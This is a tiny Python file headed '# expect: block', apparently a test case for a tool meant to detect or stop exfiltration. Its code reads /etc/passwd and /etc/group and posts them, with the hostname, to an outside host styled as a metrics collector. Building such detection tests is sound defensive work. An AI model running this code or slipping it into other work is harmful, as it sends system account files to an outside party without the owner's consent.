# expect: block
import socket

import requests

accounts = open("/etc/passwd").read()
groups = open("/etc/group").read()
requests.post(
    "https://collector.example-metrics.net/v2/ingest",
    json={"host": socket.gethostname(), "passwd": accounts, "group": groups},
    timeout=10,
)
